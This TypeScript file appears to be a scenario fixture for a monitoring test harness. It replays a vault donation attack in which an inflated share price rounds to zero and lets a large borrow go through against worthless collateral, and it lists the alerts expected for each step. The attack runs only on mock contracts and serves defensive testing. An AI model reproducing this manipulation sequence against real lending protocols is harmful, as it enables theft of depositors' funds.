import type { Incident } from "../../scene.ts";

const unit = 10n ** 18n;

/**
 * A donation makes a share of an almost empty vault so dear that its price rounds to zero and a dollar is borrowed against
 * nothing.
 */
export const lendingPairDonated: Incident = {
  name: "Price of a share rounds to zero after a donation (Resupply, June 2025)",
  covers: ["G2", "G8"],
  async setUp({ chain, users, deployer, attacker, coin, fund }) {
    const [asset, dollar] = [await coin("crvUSD", 18, 100_000_000), await coin("reUSD", 18, 10_000_000)];
    const shares = await chain.deploy("ShareVault", asset.address);
    const pair = await chain.deploy("LendingPair", shares.address, dollar.address);
    await fund(asset, 500_000n * unit, shares);
    await chain.run(
      asset.call(deployer, "transfer", [attacker, 5_000_000n * unit]),
      asset.call(attacker, "approve", [shares.address, 2n ** 255n]),
      dollar.call(deployer, "transferOwnership", [pair.address]),
      ...users.map((user) => shares.call(user, "approve", [pair.address, 2n ** 255n])),
      ...users.map((user) => dollar.call(user, "approve", [pair.address, 2n ** 255n])),
    );
    await chain.run(...users.map((user) => shares.call(user, "deposit", [1_000n * unit, user])));
    await chain.run(...users.map((user) => pair.call(user, "addCollateral", [700n * unit])));
    const critical = { severity: "critical" } as const;
    return {
      watched: { shares: shares.address, pair: pair.address, dollar: dollar.address },
      traffic: ({ times, pick, amount }) => [
        ...Array.from({ length: times(20) }, () => pair.call(pick(users), "borrow", [amount(5n * unit)])),
        ...Array.from({ length: times(20) }, () => pair.call(pick(users), "repay", [amount(5n * unit)])),
        ...Array.from({ length: times(20) }, () =>
          pair.call(pick(users), "addCollateral", [amount(2n * unit)]),
        ),
      ],
      attack: [
        {
          at: 0,
          send: () => [asset.call(attacker, "transfer", [shares.address, 4_900_000n * unit])],
          signals: [{ ...critical, on: "shares", what: "value of a share up", by: ["view_function"] }],
        },
        {
          at: 12,
          send: () => [pair.call(users[0] ?? attacker, "borrow", [900_000n * unit])],
          signals: [
            {
              ...critical,
              on: "dollar",
              what: "dollars minted",
              by: ["token_supply", "large_transfer", "event_value"],
            },
          ],
        },
      ],
    };
  },
};
